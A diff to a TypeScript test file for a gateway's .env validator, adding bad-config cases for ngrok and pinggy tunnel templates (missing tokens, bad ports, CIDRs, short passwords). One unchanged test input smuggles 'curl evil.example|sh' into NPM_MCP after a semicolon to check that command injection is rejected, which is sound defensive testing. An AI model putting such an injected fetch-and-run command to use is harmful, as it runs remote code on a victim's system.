@@ -134,8 +134,21 @@ const BAD_CASES: BadCase[] = [
   { name: 'MCP_MEMORY=0 (no limit to Docker)', env: `${OK}MCP_MEMORY=0\n`, expect: ['MCP_MEMORY must be at least 64m'] },
   // TEMPLATE
   { name: 'unknown TEMPLATE', env: `${OK}TEMPLATE=apache\n`, expect: ['TEMPLATE must be one of nginx, ngrok, pinggy'] },
-  { name: 'TEMPLATE=ngrok (not available yet)', env: `${OK}TEMPLATE=ngrok\n`, expect: ['TEMPLATE: only nginx is available in this version', 'set TEMPLATE=nginx'] },
-  { name: '--template pinggy (not available yet)', env: OK, extraArgs: ['--template', 'pinggy'], expect: ['TEMPLATE: only nginx is available', 'set TEMPLATE=nginx'] },
+  // Tunnel templates: their required settings, checked by the gateway's own module
+  { name: 'TEMPLATE=ngrok without NGROK_AUTHTOKEN', env: `${OK}TEMPLATE=ngrok\n`, expect: ['TEMPLATE=ngrok: NGROK_AUTHTOKEN is not set', 'dashboard.ngrok.com'] },
+  { name: '--template pinggy without PINGGY_ACCESS_TOKEN', env: OK, extraArgs: ['--template', 'pinggy'], expect: ['TEMPLATE=pinggy: PINGGY_ACCESS_TOKEN is not set'] },
+  {
+    name: 'TEMPLATE=pinggy without a bearer token (neither PINGGY_BEARER_TOKEN nor ACCESS_TOKEN)', inProcess: true,
+    env: 'TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=tok3n\n',
+    expect: ['PINGGY_BEARER_TOKEN (or ACCESS_TOKEN) is not set', 'npm run gen_key'],
+  },
+  { name: 'PINGGY_HOST_KEY that is not a key line', inProcess: true, env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_HOST_KEY=abc\n`, expect: ['PINGGY_HOST_KEY must be a public key line'] },
+  { name: 'PINGGY_PORT out of range', inProcess: true, env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_PORT=70000\n`, expect: ['PINGGY_PORT must be a port number'] },
+  { name: 'NGROK_BASIC_AUTH with a short password', inProcess: true, env: `TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_BASIC_AUTH=me:short\n`, expect: ['NGROK_BASIC_AUTH: ngrok wants a password of 8 to 128 characters'] },
+  { name: 'TEMPLATE=ngrok without ACCESS_TOKEN or NGROK_BASIC_AUTH', inProcess: true, env: 'TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\n', expect: ['ACCESS_TOKEN must be 32 to 256 hex characters', 'or set NGROK_BASIC_AUTH'] },
+  { name: 'NGROK_OAUTH_ALLOW_EMAILS without a provider', inProcess: true, env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_OAUTH_ALLOW_EMAILS=me@example.com\n`, expect: ['need NGROK_OAUTH_PROVIDER'] },
+  { name: 'NGROK_ALLOW_CIDRS with a host name', inProcess: true, env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_ALLOW_CIDRS=example.com\n`, expect: ["NGROK_ALLOW_CIDRS entry 'example.com' is not a CIDR"] },
+  { name: 'MCP_ENV naming PINGGY_BASIC_AUTH', inProcess: true, env: `${OK}PINGGY_BASIC_AUTH=a:b\nMCP_ENV=PINGGY_BASIC_AUTH\n`, expect: ['MCP_ENV lists PINGGY_BASIC_AUTH, a gateway secret'] },
   // NPM_MCP
   { name: 'NPM_MCP with a space', env: `${OK}NPM_MCP=@scope/server --port 3000\n`, expect: [NPM_MCP_UNSAFE, 'Put server arguments in NPM_MCP_ARGS'] },
   { name: 'NPM_MCP with ;', env: `${OK}NPM_MCP=server-x;curl evil.example|sh\n`, expect: [NPM_MCP_UNSAFE, 'NPM_MCP_ARGS'] },
@@ -266,7 +279,7 @@ const BAD_CASES: BadCase[] = [
   { name: 'start --timeout abc', env: OK, extraArgs: ['--timeout', 'abc'], expect: ['--timeout must be a number of seconds'] },
   { name: 'start with an unknown option', env: OK, extraArgs: ['--bogus'], expect: ["unknown option '--bogus'"] },
   // build validates the same .env before staging or running anything
-  { name: 'build: TEMPLATE=pinggy', command: 'build', env: `${OK}TEMPLATE=pinggy\n`, expect: ['TEMPLATE: only nginx is available', 'set TEMPLATE=nginx'] },
+  { name: 'build: TEMPLATE=pinggy without its token', command: 'build', env: `${OK}TEMPLATE=pinggy\n`, expect: ['TEMPLATE=pinggy: PINGGY_ACCESS_TOKEN is not set'] },
   { name: 'build: the placeholder token', command: 'build', env: 'ACCESS_TOKEN=secret_key__please_change\n', expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY] },
   { name: 'build: NPM_MCP with ;', command: 'build', env: `${OK}NPM_MCP=a;b\n`, expect: [NPM_MCP_UNSAFE] },
   {
